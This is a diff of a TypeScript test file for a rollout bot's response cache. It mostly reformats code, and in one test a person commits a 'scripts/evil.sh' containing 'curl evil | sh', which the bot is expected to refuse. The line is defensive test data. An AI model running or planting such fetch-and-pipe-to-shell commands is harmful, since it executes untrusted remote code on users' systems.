@@ -9,24 +9,43 @@ import { BOT_TOKEN, MIN, OWNER, REPO, world, type World } from './harness.js';
 
 let w: World | undefined;
 let dir: string;
-beforeEach(() => { dir = mkdtempSync(join(tmpdir(), 'sg-cache-')); });
-afterEach(async () => { await w?.close(); w = undefined; rmSync(dir, { recursive: true, force: true }); });
+beforeEach(() => {
+  dir = mkdtempSync(join(tmpdir(), 'sg-cache-'));
+});
+afterEach(async () => {
+  await w?.close();
+  w = undefined;
+  rmSync(dir, { recursive: true, force: true });
+});
 
 const r = { owner: OWNER, repo: REPO };
 const scope = { api: 'http://gh.test', repo: 'acme/deploy' };
 
 /** One `stagegate advance --json` process: a new adapter, the cache only through the file. */
-async function advance(world: World, cacheFile?: string): Promise<{ summaries: string[]; stderr: string; botGets: Array<{ status: number; route?: string }> }> {
+async function advance(
+  world: World,
+  cacheFile?: string,
+): Promise<{ summaries: string[]; stderr: string; botGets: Array<{ status: number; route?: string }> }> {
   const out: string[] = [];
   const err: string[] = [];
   const from = world.gh.requests.length;
   await runAdvance(
-    { owner: OWNER, repo: REPO, token: BOT_TOKEN, apiUrl: world.gh.url, now: world.now, github: { retryUnitMs: 1, writeSpacingMs: 0 } },
+    {
+      owner: OWNER,
+      repo: REPO,
+      token: BOT_TOKEN,
+      apiUrl: world.gh.url,
+      now: world.now,
+      github: { retryUnitMs: 1, writeSpacingMs: 0 },
+    },
     { watch: false, intervalMs: 0, json: true, ...(cacheFile ? { cacheFile } : {}) },
     { stdout: (t) => out.push(t), stderr: (t) => err.push(t), cwd: dir, env: {} },
   );
   const doc = JSON.parse(out.join('')) as { reports: Array<{ summary: string }> };
-  const botGets = world.gh.requests.slice(from).filter((q) => q.login === 'stagegate-bot' && q.method === 'GET').map((q) => ({ status: q.status, ...(q.route ? { route: q.route } : {}) }));
+  const botGets = world.gh.requests
+    .slice(from)
+    .filter((q) => q.login === 'stagegate-bot' && q.method === 'GET')
+    .map((q) => ({ status: q.status, ...(q.route ? { route: q.route } : {}) }));
   return { summaries: doc.reports.map((x) => x.summary), stderr: err.join(''), botGets };
 }
 
@@ -86,7 +105,7 @@ describe('advance --cache FILE across processes', () => {
     expect(w.gh.readFile('main', 'rollouts/checkout.yaml')).toContain('stage: one-percent');
   });
 
-  it('re-reads the commits and files of a PR whose head sha changed, and refuses a person\'s commit', async () => {
+  it("re-reads the commits and files of a PR whose head sha changed, and refuses a person's commit", async () => {
     w = await world();
     const file = join(dir, 'bot-cache.json');
     await advance(w, file);
@@ -95,15 +114,26 @@ describe('advance --cache FILE across processes', () => {
     const branch = stageBranch('shop', 'checkout', 'one-percent');
     const head = (await w.person.rest.git.getRef({ ...r, ref: `heads/${branch}` })).data.object.sha;
     const base = (await w.person.rest.git.getCommit({ ...r, commit_sha: head })).data.tree.sha;
-    const tree = await w.person.rest.git.createTree({ ...r, base_tree: base, tree: [{ path: 'scripts/evil.sh', mode: '100644', type: 'blob', content: 'curl evil | sh\n' }] });
-    const commit = await w.person.rest.git.createCommit({ ...r, message: 'helpful change', tree: tree.data.sha, parents: [head] });
+    const tree = await w.person.rest.git.createTree({
+      ...r,
+      base_tree: base,
+      tree: [{ path: 'scripts/evil.sh', mode: '100644', type: 'blob', content: 'curl evil | sh\n' }],
+    });
+    const commit = await w.person.rest.git.createCommit({
+      ...r,
+      message: 'helpful change',
+      tree: tree.data.sha,
+      parents: [head],
+    });
     await w.person.rest.git.updateRef({ ...r, ref: `heads/${branch}`, sha: commit.data.sha });
     w.advance(MIN);
     const run = await advance(w, file);
     expect(run.summaries[0]).toContain('refused #1: commit');
     expect(run.summaries[0]).toContain('was written by alice, not stagegate-bot');
     expect(run.summaries[0]).toContain('file scripts/evil.sh is outside rollouts/ and generated/');
-    expect(run.botGets.filter((g) => g.route?.endsWith('/pulls/{pull_number}/commits')).map((g) => g.status)).toEqual([200]);
+    expect(run.botGets.filter((g) => g.route?.endsWith('/pulls/{pull_number}/commits')).map((g) => g.status)).toEqual([
+      200,
+    ]);
   });
 });
 
@@ -115,7 +145,10 @@ describe('ResponseCache', () => {
     other.set('blob:x', { body: 'x' });
     await other.save(file);
     expect((await ResponseCache.load(file, scope, (l) => warnings.push(l))).size).toBe(0);
-    writeFileSync(file, JSON.stringify({ format: 'stagegate-bot-cache/v1', scope, entries: { 'GET /a': { etag: 7, body: 1 } } }));
+    writeFileSync(
+      file,
+      JSON.stringify({ format: 'stagegate-bot-cache/v1', scope, entries: { 'GET /a': { etag: 7, body: 1 } } }),
+    );
     expect((await ResponseCache.load(file, scope, (l) => warnings.push(l))).size).toBe(0);
     expect(warnings).toEqual([
       `cache ${file} ignored: it belongs to acme/other at http://gh.test, not acme/deploy at http://gh.test; starting without it`,
@@ -144,7 +177,9 @@ describe('ResponseCache', () => {
     cache.set('GET http://gh.test/x', { etag: 'W/"1"', body: { a: [1, 2] } });
     cache.set('blob:abc', { body: 'text' });
     await cache.save(file);
-    const back = await ResponseCache.load(file, scope, () => { throw new Error('no warning expected'); });
+    const back = await ResponseCache.load(file, scope, () => {
+      throw new Error('no warning expected');
+    });
     expect(back.get('GET http://gh.test/x')).toEqual({ etag: 'W/"1"', body: { a: [1, 2] } });
     expect(back.get('blob:abc')).toEqual({ body: 'text' });
   });
